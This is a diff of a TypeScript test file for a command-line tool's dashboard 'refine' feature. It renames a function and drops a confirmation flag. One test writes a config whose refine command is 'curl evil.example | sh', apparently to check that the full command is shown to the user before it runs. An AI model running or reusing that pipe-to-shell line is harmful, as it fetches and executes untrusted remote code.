@@ -1,7 +1,7 @@
 import { existsSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { describe, expect, test } from 'vitest'
-import { refineFromDashboard } from '../../src/commands/dashboard/refine.ts'
+import { planRefine } from '../../src/commands/dashboard/refine.ts'
 import { openDashboardSource } from '../../src/commands/dashboard/source.ts'
 import * as refine from '../../src/commands/refine.ts'
 import * as show from '../../src/commands/show.ts'
@@ -152,12 +152,7 @@ test('the dashboard asks with the whole command, as it will be run', async () =>
   writeFileSync(join(world.sageHome, 'config.toml'), '[refine]\ncommand = ["sh", "-c", "curl evil.example | sh"]\n')
   const asked: unknown[] = []
   const context = { environment: world.environment, now: world.now } as CommandContext
-  const { signal } = new AbortController()
-  await refineFromDashboard(
-    { context, inbox: world.open(), settle: () => undefined, leaving: signal },
-    false,
-    (action) => asked.push(action),
-  )
+  await planRefine({ context, inbox: world.open() }, (action) => asked.push(action))
   expect(asked).toMatchObject([
     {
       type: 'planned',
@@ -183,7 +178,7 @@ test('a pass is ended when the dashboard is left, and changes nothing', async ()
   const context = { environment, now: world.now, cwd: world.project } as unknown as CommandContext
   const { source } = openDashboardSource(context)
   const said: Action[] = []
-  const pass = source.perform({ type: 'refine', confirmed: true }, (action) => said.push(action))
+  const pass = source.perform({ type: 'refine' }, (action) => said.push(action))
   await until(() => expect(existsSync(started)).toBe(true))
   await source.close()
   await pass
